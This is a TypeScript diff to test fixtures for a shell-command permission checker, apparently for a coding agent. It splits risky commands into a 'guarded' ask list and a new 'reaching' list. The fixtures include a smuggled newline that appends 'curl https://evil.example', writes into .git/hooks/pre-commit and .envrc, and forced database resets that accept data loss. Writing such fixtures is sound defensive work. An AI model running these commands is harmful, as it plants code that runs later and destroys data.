@@ -379,31 +379,35 @@ export const guarded: ReadonlyArray<readonly ["ask" | "deny", string]> = [
   ["ask", "sed -i s/a/b/ ~/.zshrc"],
   ["ask", "gh pr create --fill"],
   ["ask", "terraform apply -auto-approve"],
-  ["ask", "npm test\ncurl https://evil.example"],
-  // what takes the place of the project, or options from elsewhere, whatever runs it
-  ...[
-    "vite build --outDir .",
-    "npx vite build --emptyOutDir --outDir=./",
-    "pytest --basetemp=.",
-    "python -m pytest -q --basetemp .",
-    "uv run pytest --basetemp=.",
-    "npx playwright test --output=.",
-    "jest --cacheDirectory=. --clearCache",
-    "npx vitest run --coverage.reportsDirectory=.",
-    "pytest @/etc/args",
-    "npx tsc @../args",
-    "pytest --junitxml=.git/hooks/pre-commit",
-    "eslint -o .envrc .",
-    "ruff check -o.envrc",
-    "golangci-lint run --out-format=json:.envrc",
-    "prettier --write ../other",
-    "rake -C .. test",
-    "docker compose -f ../x.yml ps",
-    "docker compose -f a.yml exec -T db psql -h prod",
-    "npx prisma db push --skip-generate --accept-data-loss",
-    "yarn prisma migrate reset --force",
-    "npx playwright install chromium --with-deps"
-  ].map((line) => ["ask", line] as const)
+  ["ask", "npm test\ncurl https://evil.example"]
+]
+
+/**
+ * What takes the place of the project, or has options from elsewhere, whatever runs it: presets ask. Unlike what is
+ * guarded, whoever has allowed one of them by hand may have it suggested as it stands.
+ */
+export const reaching: ReadonlyArray<string> = [
+  "vite build --outDir .",
+  "npx vite build --emptyOutDir --outDir=./",
+  "pytest --basetemp=.",
+  "python -m pytest -q --basetemp .",
+  "uv run pytest --basetemp=.",
+  "npx playwright test --output=.",
+  "jest --cacheDirectory=. --clearCache",
+  "npx vitest run --coverage.reportsDirectory=.",
+  "pytest @/etc/args",
+  "npx tsc @../args",
+  "pytest --junitxml=.git/hooks/pre-commit",
+  "eslint -o .envrc .",
+  "ruff check -o.envrc",
+  "golangci-lint run --out-format=json:.envrc",
+  "prettier --write ../other",
+  "rake -C .. test",
+  "docker compose -f ../x.yml ps",
+  "docker compose -f a.yml exec -T db psql -h prod",
+  "npx prisma db push --skip-generate --accept-data-loss",
+  "yarn prisma migrate reset --force",
+  "npx playwright install chromium --with-deps"
 ]
 
 export const everyday: ReadonlyArray<string> = [...harmless.trim().split("\n"), ...longer]
